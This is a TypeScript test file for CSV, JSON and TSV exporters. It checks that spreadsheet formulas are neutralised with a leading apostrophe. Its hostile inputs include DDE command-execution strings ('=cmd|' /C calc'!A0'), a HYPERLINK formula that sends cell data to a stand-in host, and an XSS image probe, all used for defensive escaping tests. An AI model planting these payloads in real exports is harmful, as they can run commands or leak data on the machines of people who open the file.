import { describe, expect, it } from "vitest";
import { csv, csvCell, json, tsv } from "./csv";

/** Reads RFC 4180, strictly; NULL is an empty field without quotes. */
function parse(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: (string | null)[] = [];
    for (;;) {
      const match = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
      match.lastIndex = at;
      const found = match.exec(text);
      if (!found)
        throw new Error(`no field at ${at}: ${text.slice(at, at + 20)}`);
      at = match.lastIndex;
      const [, inQuotes, bare, end] = found;
      row.push(inQuotes?.replaceAll('""', '"') ?? (bare || null));
      if (end === "\r\n") break;
    }
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet would run, each with what must be read back. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"open")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "-",
  "+",
  "=",
  "-Infinity",
  "+1-800-FLOWERS",
  "-1e5x",
  "--1",
  "=\n1",
];

const harmless = [
  "-1",
  "+1",
  "-12.50",
  "1e10",
  "-1.5E-7",
  "-.5",
  "9007199254740993",
  "12345678901234567890.123456789",
  "",
  " ",
  " =1+1",
  "a,b",
  'say "hi"',
  '"',
  '""',
  "line\nbreak",
  "line\r\nbreak",
  "tab\tinside",
  "semi;colon",
  "<img src=x onerror=alert(1)>",
  "'quoted'",
  "Zoë 🦊 日本",
  '["=1+1",{"a":"x,y"}]',
  "null",
];

describe("CSV", () => {
  it("reads back 47 hostile cells, with a ' before each formula", () => {
    const cells = [...formulas, ...harmless];
    expect(cells).toHaveLength(47);
    const rows = cells.map((cell) => ({
      kind: "+I" as const,
      values: [cell, "end"],
    }));
    const columns = [
      { name: '=a "column", quoted', type: "STRING" },
      { name: "b", type: "STRING" },
    ];
    const text = [...csv(columns, rows, { kinds: false })].join("");
    expect(parse(text)).toEqual([
      ['\'=a "column", quoted', "b"],
      ...formulas.map((cell) => [`'${cell}`, "end"]),
      ...harmless.map((cell) => [cell, "end"]),
    ]);
  });

  it("tells NULL from an empty text", () => {
    expect(csvCell(null)).toBe("");
    expect(csvCell("")).toBe('""');
  });

  it("names the kinds in words, which no spreadsheet runs", () => {
    const rows = [
      { kind: "+I" as const, values: [1] },
      { kind: "-U" as const, values: [-1] },
    ];
    const columns = [{ name: "n", type: "INT" }];
    expect([...csv(columns, rows, { kinds: true })].join("")).toBe(
      "row_kind,n\r\ninsert,1\r\nupdate_before,-1\r\n",
    );
  });
});

describe("JSON", () => {
  it("keeps each value as it came, also in columns of any name", () => {
    const columns = [
      { name: "__proto__", type: "BIGINT" },
      { name: 'a"b', type: "DECIMAL(38, 18)" },
    ];
    const rows = [
      {
        kind: "+U" as const,
        values: ["9223372036854775807", "0.100000000000000000"],
      },
      { kind: "-D" as const, values: [null, { nested: ["1", 2] }] },
    ];
    const text = [...json(columns, rows)].join("");
    expect(text).toContain('"9223372036854775807"');
    expect(JSON.parse(text)).toEqual({ columns, rows });
  });

  it("of no rows is valid, too", () => {
    expect(JSON.parse([...json([], [])].join(""))).toEqual({
      columns: [],
      rows: [],
    });
  });
});

describe("TSV", () => {
  it("of one cell is the cell as it is", () => {
    expect(tsv([['a\t"b"\n=1']])).toBe('a\t"b"\n=1');
    expect(tsv([[null]])).toBe("");
  });

  it("quotes what would fall apart", () => {
    expect(
      tsv([
        ["a", null, "x\ty"],
        ['"', "b\nc", "1"],
      ]),
    ).toBe('a\t\t"x\ty"\n""""\t"b\nc"\t1');
  });
});
